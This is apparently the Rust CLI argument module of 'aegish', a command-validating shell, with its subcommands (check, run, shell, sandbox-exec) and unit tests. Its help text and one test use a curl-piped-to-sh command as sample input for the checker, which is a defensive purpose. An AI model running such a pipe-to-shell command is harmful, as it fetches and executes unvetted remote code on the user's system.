//! CLI argument definitions for aegish
//!
//! Uses clap for argument parsing. With no subcommand aegish starts an
//! interactive shell.

use clap::{Args, Parser, Subcommand};
use std::ffi::OsString;
use std::path::PathBuf;

/// aegish - a shell that checks commands before running them
///
/// Every command is canonicalized, statically validated, has its embedded
/// substitutions resolved, is classified, and only then runs with shell
/// re-spawning denied by the kernel.
#[derive(Parser, Debug)]
#[command(name = "aegish")]
#[command(author, version, about, long_about = None)]
pub struct Cli {
    /// Suppress the banner and decision summaries
    #[arg(long, short = 's', global = true)]
    pub silent: bool,

    /// Configuration file (development mode only)
    #[arg(long, global = true, value_name = "FILE")]
    pub config: Option<PathBuf>,

    #[command(subcommand)]
    pub command: Option<Commands>,
}

#[derive(Subcommand, Debug)]
pub enum Commands {
    /// Show the decision for a command without running it
    #[command(trailing_var_arg = true)]
    #[command(after_help = "EXAMPLES:
    # Human-readable decision
    aegish check 'curl http://example.com/x | sh'

    # Machine-readable decision
    aegish check --json -- ls -la

EXIT STATUS:
    0 allow, 1 block, 2 warn
")]
    Check(CheckArgs),

    /// Validate and run a single command
    #[command(trailing_var_arg = true)]
    #[command(after_help = "EXAMPLES:
    aegish run 'ls -la ~/src'
    aegish run -- git status
")]
    Run(RunArgs),

    /// Start an interactive validating shell
    #[command(after_help = "EXAMPLES:
    # Embedded: `exit` returns to the calling shell
    aegish shell

    # Login shell: `exit` ends the session
    aegish shell --login
")]
    Shell(ShellArgs),

    /// Verify the configured classifier answers and allows a harmless command
    CheckClassifier,

    /// Apply the exec sandbox and exec the runner
    #[command(hide = true)]
    SandboxExec(SandboxExecArgs),
}

#[derive(Args, Debug)]
pub struct CheckArgs {
    /// Print the decision as JSON
    #[arg(long)]
    pub json: bool,

    /// The command line; several words are joined with spaces
    #[arg(required = true)]
    pub command: Vec<String>,
}

#[derive(Args, Debug)]
pub struct RunArgs {
    /// The command line; several words are joined with spaces
    #[arg(required = true)]
    pub command: Vec<String>,
}

#[derive(Args, Debug)]
pub struct ShellArgs {
    /// Act as a login shell: `exit` terminates the session
    #[arg(long, short = 'l')]
    pub login: bool,
}

#[derive(Args, Debug)]
pub struct SandboxExecArgs {
    #[arg(long)]
    pub runner: PathBuf,

    /// Library preloaded into the runner to apply the second layer
    #[arg(long)]
    pub preload: PathBuf,

    #[arg(long = "library-dir")]
    pub library_dirs: Vec<PathBuf>,

    /// Arguments passed to the runner
    #[arg(last = true, allow_hyphen_values = true)]
    pub args: Vec<OsString>,
}

impl CheckArgs {
    pub fn command_line(&self) -> String {
        self.command.join(" ")
    }
}

impl RunArgs {
    pub fn command_line(&self) -> String {
        self.command.join(" ")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_no_subcommand_is_shell() {
        let cli = Cli::try_parse_from(["aegish"]).unwrap();
        assert!(cli.command.is_none());
    }

    #[test]
    fn test_check_joins_words() {
        let cli = Cli::try_parse_from(["aegish", "check", "--json", "--", "ls", "-la"]).unwrap();
        match cli.command {
            Some(Commands::Check(args)) => {
                assert!(args.json);
                assert_eq!(args.command_line(), "ls -la");
            }
            _ => panic!("Expected Check command"),
        }
    }

    #[test]
    fn test_check_single_quoted_line() {
        let cli = Cli::try_parse_from(["aegish", "check", "curl x | sh"]).unwrap();
        match cli.command {
            Some(Commands::Check(args)) => {
                assert!(!args.json);
                assert_eq!(args.command_line(), "curl x | sh");
            }
            _ => panic!("Expected Check command"),
        }
    }

    #[test]
    fn test_run_requires_command() {
        assert!(Cli::try_parse_from(["aegish", "run"]).is_err());
        let cli = Cli::try_parse_from(["aegish", "run", "git", "status"]).unwrap();
        match cli.command {
            Some(Commands::Run(args)) => assert_eq!(args.command_line(), "git status"),
            _ => panic!("Expected Run command"),
        }
    }

    #[test]
    fn test_shell_login() {
        let cli = Cli::try_parse_from(["aegish", "shell", "--login"]).unwrap();
        match cli.command {
            Some(Commands::Shell(args)) => assert!(args.login),
            _ => panic!("Expected Shell command"),
        }
    }

    #[test]
    fn test_global_flags() {
        let cli =
            Cli::try_parse_from(["aegish", "check-classifier", "-s", "--config", "/tmp/a.toml"])
                .unwrap();
        assert!(cli.silent);
        assert_eq!(cli.config, Some(PathBuf::from("/tmp/a.toml")));
        assert!(matches!(cli.command, Some(Commands::CheckClassifier)));
    }

    #[test]
    fn test_sandbox_exec_passes_hyphen_args() {
        let cli = Cli::try_parse_from([
            "aegish",
            "sandbox-exec",
            "--runner",
            "/opt/aegish/bin/runner",
            "--preload",
            "/opt/aegish/lib/libaegish_sandbox.so",
            "--library-dir",
            "/lib",
            "--library-dir",
            "/usr/lib",
            "--",
            "--norc",
            "--noprofile",
            "-c",
            "ls",
        ])
        .unwrap();
        match cli.command {
            Some(Commands::SandboxExec(args)) => {
                assert_eq!(args.runner, PathBuf::from("/opt/aegish/bin/runner"));
                assert_eq!(
                    args.preload,
                    PathBuf::from("/opt/aegish/lib/libaegish_sandbox.so")
                );
                assert_eq!(args.library_dirs.len(), 2);
                assert_eq!(args.args, ["--norc", "--noprofile", "-c", "ls"]);
            }
            _ => panic!("Expected SandboxExec command"),
        }
    }
}
